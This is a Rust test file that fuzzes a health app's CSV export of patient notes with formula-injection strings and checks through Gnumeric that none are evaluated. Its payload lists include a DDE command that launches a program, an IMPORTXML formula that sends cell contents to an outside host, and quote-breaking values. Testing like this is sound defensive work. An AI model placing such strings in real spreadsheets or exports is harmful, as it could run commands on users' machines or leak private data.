//! Hostile words in the tables that a patient hands out, opened by a real spreadsheet: none is reckoned with.

use std::{fs, path::Path, process::Command};

use care::{
    form::FormId,
    private::Private,
    summary::Summary,
    summary_words::{OwnLine, OwnWords},
};
use chrono::NaiveDate;
use fastrand::Rng;
use handover::tables::tables;

use crate::prove::figures::Seen;

/// Cells in one table.
pub const CELLS: usize = 500;

const ON: NaiveDate = NaiveDate::from_ymd_opt(2026, 10, 28).expect("a day");

/// What may stand before a formula, seen or not.
const BEFORE: [&str; 12] = [
    "", "", "", " ", "\t", "\r", "\n", "\u{feff}", "\u{200b}", "\"", "'", ";",
];
const SIGNS: [&str; 8] = ["=", "=", "+", "-", "@", "|", "%", "＝"];
const FORMULAS: [&str; 8] = [
    "1+1",
    "SUM(A1:A9)",
    "HYPERLINK(\"http://example.org\",\"look\")",
    "cmd|' /C calc'!A0",
    "IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
    "A1",
    "-2+3",
    "1+1\",=2+2,\"",
];

/// Whether the tables are handed out as they are made.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Guard {
    /// As the app does.
    Ours,
    /// Without the apostrophes. A proof that does not see this sees nothing.
    TakenAway,
}

/// Opens the table of this number.
///
/// # Errors
///
/// When it cannot be made or opened.
pub fn round(run: u32, guard: Guard, page: &Summary) -> Result<Seen, String> {
    let mut random = Rng::with_seed(u64::from(run));
    let line = |_| OwnLine {
        on: ON,
        form: FormId("note".to_owned()),
        words: hostile(&mut random),
    };
    let lines = (0..CELLS).map(line).collect();
    let page = Summary {
        own_words: Some(OwnWords { lines, parked: 0 }),
        ..page.clone()
    };
    let tables = tables(&page).map_err(|it| it.to_string())?;
    let words = tables.into_iter().find(|it| it.0 == "words");
    let (_, mut table) = words.ok_or("no table of words")?;
    if guard == Guard::TakenAway {
        let text = String::from_utf8_lossy(&table);
        table = text.replace(",'", ",").replace(",\"'", ",\"").into_bytes();
    }
    let folder = tempfile::tempdir().map_err(|it| it.to_string())?;
    let opened = opened(&table, folder.path())?;
    let cells = opened.split("<gnm:Cell ").skip(1);
    let cells: Vec<(&str, &str)> = cells.filter_map(|it| it.split_once('>')).collect();
    let words = cells.iter().filter(|it| it.0.contains(" Col=\"2\""));
    // Below the head.
    let words = words.count().saturating_sub(1);
    // A cell that is reckoned has no kind of value of its own.
    let formulas = cells.iter().filter(|it| !it.0.contains("ValueType="));
    let formulas: Vec<_> = formulas.collect();
    let mut seen = Seen::default();
    seen.tried("cells", words);
    seen.wrong("formulas", formulas.len());
    if guard == Guard::Ours {
        formulas.iter().for_each(|it| println!("   {it:?}"));
        seen.wrong("lost or split", words.abs_diff(CELLS));
    }
    Ok(seen)
}

fn hostile(random: &mut Rng) -> Private {
    let mut one = |of: &[&'static str]| of[random.usize(0..of.len())];
    let mut words = String::new();
    words.push_str(one(&BEFORE));
    words.push_str(one(&BEFORE));
    words.push_str(one(&SIGNS));
    words.push_str(one(&FORMULAS));
    Private(words)
}

/// The table as Gnumeric has it, in its own format.
fn opened(table: &[u8], folder: &Path) -> Result<String, String> {
    let told = |it: std::io::Error| format!("ssconvert: {it}");
    let (from, to) = (folder.join("words.csv"), folder.join("words.xml"));
    fs::write(&from, table).map_err(told)?;
    let done = Command::new("ssconvert")
        .arg("--import-type=Gnumeric_stf:stf_csvtab")
        .arg("--import-encoding=UTF-8")
        .arg("--export-type=Gnumeric_XmlIO:sax:0")
        .args([&from, &to])
        .env("HOME", folder)
        .output()
        .map_err(told)?;
    if !done.status.success() {
        return Err(String::from_utf8_lossy(&done.stderr).into_owned());
    }
    fs::read_to_string(to).map_err(told)
}
